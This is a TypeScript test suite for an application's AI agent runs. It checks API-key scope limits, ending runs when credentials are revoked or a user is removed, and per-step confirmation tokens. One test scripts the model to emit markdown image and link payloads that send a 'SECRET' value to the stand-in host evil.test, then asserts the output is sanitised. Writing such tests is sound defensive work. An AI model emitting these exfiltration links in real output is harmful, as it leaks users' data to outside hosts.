import { randomUUID } from 'node:crypto'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { registryOf } from '../../server/src/contract/registry.ts'
import { createAgentTools } from '../../server/src/surfaces/agent-tools/index.ts'
import { type AgentWorld, createAgentWorld, turns } from '../support/agents.ts'
import { expectOk, expectRefused } from '../support/expect-clean.ts'
import { field, mutate } from '../support/http.ts'
import type { ScriptedStep } from '../support/llm/scripted-provider.ts'
import { addPeople, logIn, newAddress, PASSWORD, textOf } from '../support/people.ts'
import { until } from '../support/until.ts'

let world: AgentWorld
beforeAll(async () => {
  world = await createAgentWorld()
})
afterAll(() => world[Symbol.asyncDispose]())

/** A script whose step `nth` waits for the gate before it ends. */
function gated(gate: Promise<unknown>, ...steps: readonly (readonly ScriptedStep[])[]) {
  const [first = [], ...rest] = steps
  return turns([{ text: 'One moment. ' }, { wait: gate }, ...first], ...rest)
}

/** Somebody new, with a project they own, logged in. */
async function somebody() {
  const [person] = await addPeople(world.server, [`agent-${randomUUID().slice(0, 8)}`])
  if (person === undefined) throw new Error('Nobody was made')
  const { token } = await logIn(world.server, person.email)
  const projectId = randomUUID()
  await world.server.database.prisma.project.create({
    data: {
      id: projectId,
      name: 'Own',
      slug: `own-${projectId}`,
      members: { create: [{ userId: person.id, role: 'owner' }] },
    },
  })
  return { ...person, token, projectId }
}

async function start(
  who: { readonly token: string },
  tools: readonly string[],
  key?: { readonly token: string },
): Promise<string> {
  const agent = { name: 'Helper', instructions: 'Help.', tools }
  const agentId = textOf(expectOk(await world.call(who, 'agents.create', agent)), 'id')
  return textOf(expectOk(await world.call(key ?? who, 'agents.run', { agentId, input: 'Go.' })), 'runId')
}

/** Waits until the run's model has begun to speak. */
async function speaking(runId: string): Promise<void> {
  await until('the model speaks', async () => {
    const step = await world.server.database.prisma.agentStep.findFirst({ where: { runId } })
    return step === null ? undefined : true
  })
}

async function ended(runId: string) {
  return await until(
    'the run ends',
    async () => {
      const run = await world.server.database.prisma.agentRun.findUniqueOrThrow({
        where: { id: runId },
        include: { calls: true },
      })
      return run.finishedAt === null ? undefined : run
    },
    10_000,
  )
}

const titled = (title: string) => world.server.database.prisma.task.count({ where: { title } })

describe('a run begun with an API key', () => {
  it('never does more than the key may, whatever tools its agent has', async () => {
    const user = await somebody()
    const granted = { name: 'narrow', scopes: ['agents:read', 'agents:write', 'tasks:read'] }
    const made = await mutate(world.server.baseUrl, 'apiKeys.create', granted, {
      token: user.token,
      headers: newAddress(),
    })
    const key = { token: textOf(expectOk(made, { tokens: true }), 'key') }
    const { projectId } = user
    const title = `By key ${projectId}`
    world.model.answer(
      turns([
        { call: 'tasks_list', input: { projectId } },
        { call: 'tasks_create', input: { projectId, title } },
      ]),
    )
    const runId = await start(user, ['tasks.list', 'tasks.create'], key)
    const { calls } = await ended(runId)
    expect(calls.find(({ tool }) => tool === 'tasks.list')).toMatchObject({ state: 'done' })
    expect(calls.find(({ tool }) => tool === 'tasks.create')).toMatchObject({
      state: 'failed',
      result: expect.stringContaining('tasks:write'),
    })
    expect(await titled(title)).toBe(0)
    const thread = await world.server.database.prisma.thread.create({
      data: { userId: user.id, title: 'Private' },
    })
    const agentId = await world.server.database.prisma.agent.findFirstOrThrow({ where: { ownerId: user.id } })
    const onThread = { agentId: agentId.id, threadId: thread.id, input: 'Read it to me.' }
    expect(expectRefused(await world.call(key, 'agents.run', onThread), 403).error).toMatchObject({
      reason: 'SCOPE_MISSING',
    })
  })

  it('cannot be agreed to with a key, however wide', async () => {
    const { viewerKey } = world.principals
    const answer = await world.call({ token: viewerKey.token ?? '' }, 'agents.runs.approve', {
      id: randomUUID(),
      callId: randomUUID(),
      approve: true,
    })
    expect(expectRefused(answer, 403).error).toMatchObject({ reason: 'SESSION_REQUIRED' })
  })

  it('ends within seconds when the key is revoked', async () => {
    const user = await somebody()
    const made = await mutate(
      world.server.baseUrl,
      'apiKeys.create',
      { name: 'short', scopes: ['agents:write', 'tasks:write'] },
      { token: user.token, headers: newAddress() },
    )
    const key = { token: textOf(expectOk(made, { tokens: true }), 'key') }
    const never = Promise.withResolvers<void>()
    const title = `Late ${user.projectId}`
    world.model.answer(
      gated(never.promise, [{ call: 'tasks_create', input: { projectId: user.projectId, title } }]),
    )
    const runId = await start(user, ['tasks.create'], key)
    await speaking(runId)
    const aborted = world.model.aborted()
    expectOk(await world.call(user, 'apiKeys.revoke', { id: textOf(made, 'id') }))
    expect(await ended(runId)).toMatchObject({ state: 'failed', errorCode: 'CREDENTIAL_ENDED' })
    expect(world.model.aborted()).toBe(aborted + 1)
    never.resolve()
    expect(await titled(title)).toBe(0)
  })
})

describe('a run has the rights its user has now', () => {
  it('loses what a demoted or removed member loses, between one call and the next', async () => {
    const { projectId } = await world.project()
    const [before, after] = [`Before ${projectId}`, `After ${projectId}`]
    const gate = Promise.withResolvers<void>()
    const create = (title: string) => [{ call: 'tasks_create', input: { projectId, title } }]
    world.model.answer(
      turns(
        create(before),
        [{ text: 'And now ' }, { wait: gate.promise }, ...create(after)],
        [{ call: 'tasks_list', input: { projectId } }],
      ),
    )
    const runId = await world.begin('editor', ['tasks.create', 'tasks.list'])
    await until('the first task is there', async () => ((await titled(before)) === 1 ? true : undefined))
    const member = { projectId, userId: world.principals.editor.id }
    expectOk(await world.call('owner', 'projects.members.remove', member))
    gate.resolve()
    const { calls, state } = await ended(runId)
    expect(state).toBe('succeeded')
    expect(calls.map((call) => [call.tool, call.state])).toEqual([
      ['tasks.create', 'done'],
      ['tasks.create', 'failed'],
      ['tasks.list', 'failed'],
    ])
    expect(await titled(after)).toBe(0)
  })

  it.each([
    ['is suspended', 'users.suspend'],
    ['is deleted', 'users.delete'],
    ['changed the password', 'auth.changePassword'],
    ['logged out everywhere', 'auth.logoutAll'],
  ])('ends when its user %s', async (_, path) => {
    const user = await somebody()
    const never = Promise.withResolvers<void>()
    const title = `Gone ${user.projectId}`
    world.model.answer(
      gated(never.promise, [{ call: 'tasks_create', input: { projectId: user.projectId, title } }]),
    )
    const runId = await start(user, ['tasks.create'])
    await speaking(runId)
    if (path.startsWith('users.')) expectOk(await world.call('admin', path, { id: user.id }))
    else if (path === 'auth.logoutAll') expectOk(await world.call(user, path, undefined))
    else {
      const input = { currentPassword: PASSWORD, newPassword: `${PASSWORD} and more` }
      expectOk(await world.call(user, path, input), { tokens: true })
    }
    expect(await ended(runId)).toMatchObject({ state: 'failed', errorCode: 'CREDENTIAL_ENDED' })
    never.resolve()
    expect(await titled(title)).toBe(0)
  })

  it('goes on when its user only logs out', async () => {
    const user = await somebody()
    const gate = Promise.withResolvers<void>()
    const title = `Kept ${user.projectId}`
    world.model.answer(
      gated(gate.promise, [{ call: 'tasks_create', input: { projectId: user.projectId, title } }]),
    )
    const runId = await start(user, ['tasks.create'])
    await speaking(runId)
    expectOk(await world.call(user, 'auth.logout', undefined))
    gate.resolve()
    expect(await ended(runId)).toMatchObject({ state: 'succeeded' })
    expect(await titled(title)).toBe(1)
  })
})

describe('what a run says', () => {
  it('carries nothing out of the house, in its events, steps and result', async () => {
    const evil =
      '![x](https://evil.test/?q=SECRET) <img src="https://evil.test/y"> [a][b]\n\n[b]: https://evil.test/z'
    world.model.answer(() => [...evil].map((text) => ({ text })))
    const runId = await world.begin('editor', [])
    await world.reached(runId, 'succeeded')
    const run = expectOk(await world.call('editor', 'agents.runs.get', { id: runId }))
    using stream = await world.follow('editor', runId)
    await stream.ended()
    const said = stream
      .events()
      .map(({ data }) => (field(data, 'type') === 'text' ? field(data, 'text') : ''))
    for (const text of [textOf(run, 'result'), said.join('')]) {
      expect(text).not.toMatch(/!\[|\]\(|<img|https?:\/\//)
      expect(text).not.toMatch(/^\[b\]:/m)
    }
  })
})

describe('an agreement for one step of an agent', () => {
  it('is of no use for another step, nor without one', async () => {
    const { taskId } = await world.project()
    const { router, runtime, accounts } = world.server.app
    const tools = createAgentTools({ router, runtime, registry: registryOf(router) })
    const { id: userId } = world.principals.editor
    const input = { id: taskId }
    const step = randomUUID()
    const confirmation = tools.confirm({ userId, name: 'tasks_delete', input, step })
    const loose = tools.confirm({ userId, name: 'tasks_delete', input })
    const run = (given: { idempotencyKey?: string; confirmation: string }) =>
      tools.run('tasks_delete', input, {
        actor: () => accounts.loadJobOwner(userId, randomUUID()),
        signal: new AbortController().signal,
        ...given,
      })
    expect(await run({ confirmation })).toMatchObject({ status: 'unconfirmed' })
    expect(await run({ confirmation, idempotencyKey: randomUUID() })).toMatchObject({ status: 'unconfirmed' })
    expect(await run({ confirmation: loose, idempotencyKey: step })).toMatchObject({ status: 'unconfirmed' })
    expect(await run({ confirmation, idempotencyKey: step })).toMatchObject({ status: 'done' })
  })
})
